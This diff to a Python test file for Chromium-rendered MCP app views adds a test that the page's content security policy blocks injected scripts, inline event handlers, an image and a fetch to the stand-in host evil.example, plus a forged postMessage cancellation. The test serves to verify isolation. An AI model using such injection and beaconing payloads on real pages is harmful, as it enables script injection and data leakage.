@@ -1,6 +1,7 @@
 """The app views of MCP, drawn by Chromium in a host that gives them real answers of the server."""
 
 import asyncio
+import json
 from contextlib import asynccontextmanager
 
 import httpx2
@@ -34,6 +35,16 @@ CRAWL = {
     "pagesFound": 230,
     "pagesCrawled": 230,
 }
+INJECTION = """{
+  const script = document.createElement("script");
+  script.textContent = "globalThis.taken = 2";
+  const image = new Image();
+  image.src = "https://evil.example/x.png";
+  const box = document.createElement("div");
+  document.body.append(script, image, box);
+  box.innerHTML = "<p onclick='globalThis.taken = 3' style='color: red'>x</p>";
+  box.firstChild.click();
+}"""
 # What sticks out of the page, except in a box that scrolls.
 WIDE = """[...document.querySelectorAll("body, body *:not(.graph *)")]
   .filter((node) => node.getBoundingClientRect().right > innerWidth + 1 || document.documentElement.scrollWidth > innerWidth)
@@ -65,7 +76,7 @@ def open_view(pipe, services):
     services.runs_workers = False  # a test runs them
 
     @asynccontextmanager
-    async def open_shown(tool, *, can_call=True, **shown):
+    async def open_shown(tool, *, can_call=True, more="", **shown):
         wire = httpx2.AsyncClient(transport=httpx2.ASGITransport(create_app(services)), timeout=60)
         connection = streamable_http_client("http://127.0.0.1:8787/mcp", http_client=wire)
         async with Client(connection, mode="2026-07-28", extensions=[APPS]) as client:
@@ -78,7 +89,7 @@ def open_view(pipe, services):
                 return result.model_dump(mode="json", by_alias=True, exclude_none=True)
 
             async with open_host(pipe, call if can_call else None) as host:
-                await host.show(content.text, **shown)
+                await host.show(content.text.replace("</body>", f"{more}</body>"), **shown)
                 yield host, call
 
     return open_shown
@@ -125,6 +136,21 @@ async def test_a_bibliography_is_a_table_of_references_with_their_evidence(open_
         assert host.sizes[-1]["height"] > 100
         assert await host.find_faults() == []
         assert host.origins == {"null"}
+
+
+@pytest.mark.parametrize("tool", ["audit_bibliography", "get_research_session", "cinder_crawl"])
+async def test_nothing_but_its_own_script_runs_in_a_view_and_only_the_host_is_heard(tool, open_view):
+    async with open_view(tool, more="<script>globalThis.taken = 1</script>") as (host, _):
+        await host.evaluate(INJECTION)
+        fetched = await host.evaluate("fetch('https://evil.example/').then(() => 'sent', () => 'refused')")
+        assert (fetched, await host.evaluate("globalThis.taken")) == ("refused", None)
+        await host.wait_until("violations.length >= 6")
+        assert {fault.partition(" ")[0] for fault in await host.find_faults()} == {
+            "script-src-elem", "script-src-attr", "style-src-attr", "img-src", "connect-src"
+        }  # fmt: skip
+        forged = {"jsonrpc": "2.0", "method": "ui/notifications/tool-cancelled", "params": {}}
+        await host.evaluate(f"postMessage({json.dumps(forged)}, '*'); new Promise((done) => setTimeout(done, 50))")
+        assert await host.read_text("#state") == "Waiting for the answer."
 
 
 async def test_an_audit_of_a_manuscript_is_followed_to_its_end_and_its_pages_turned(open_view, cited_services):
